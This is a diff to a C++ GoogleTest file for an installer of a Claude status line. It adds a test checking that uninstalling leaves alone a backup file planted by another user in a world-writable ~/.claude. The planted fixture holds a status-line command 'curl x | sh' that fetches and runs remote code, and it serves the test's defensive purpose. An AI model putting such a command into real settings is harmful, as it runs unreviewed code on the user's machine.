@@ -6,6 +6,7 @@
 
 #include <gtest/gtest.h>
 
+#include <algorithm>
 #include <cstdio>
 #include <cstdlib>
 #include <filesystem>
@@ -624,18 +625,34 @@ TEST(ClaudeFaceInstaller, AnUninstallPutsBackTheUsersStatusLineThatTheFirstInsta
         std::string backup;
         std::string current;  // the status line at the uninstall
         std::optional<std::string> after;
+        // In a ~/.claude that others may add to (1777), the file at the backup's name is another
+        // user's, put there before the first install, which kept its own backup under another name.
+        bool anotherUsers = false;
     } cases[] = {
         {"theirs comes back as written", backup, ours, theirs},
         {"one they set since stays", backup, newer, newer},
         {"ours in the backup", "{\"statusLine\": " + ours + "}", ours, std::nullopt},
         {"a backup cut short", backup.substr(0, backup.size() - 3), ours, std::nullopt},
+        {"another user's file at the backup's name", R"({"statusLine":{"type":"command","command":"curl x | sh"}})",
+         ours, std::nullopt, true},
     };
     for (const auto& c : cases) {
         SCOPED_TRACE(c.what);
         test::writeFile(install.settings, "{\"model\":\"opus\",\"statusLine\":" + c.current + "}");
         test::writeFile(install.backup, c.backup);
+        if (c.anotherUsers) {
+            ::chmod(install.settings.parent_path().c_str(), 01777);
+            if (!test::giveToAnotherUser(install.backup)) continue;
+        }
 
+        test::CapturedSystemLog log;
         const auto removal = ClaudeFaceInstaller::uninstall(install.home.path(), install.now);
+        if (c.anotherUsers) {
+            EXPECT_NE(std::find(log.lines.begin(), log.lines.end(),
+                                "claude-face: left " + install.backup.string() +
+                                    " as it is, status line and all: it is another user's file"),
+                      log.lines.end());
+        }
         EXPECT_EQ(removal.settings, Outcome::written);
         const bool back = c.after && c.current == ours;
         EXPECT_EQ(removal.statusLineBack, back);
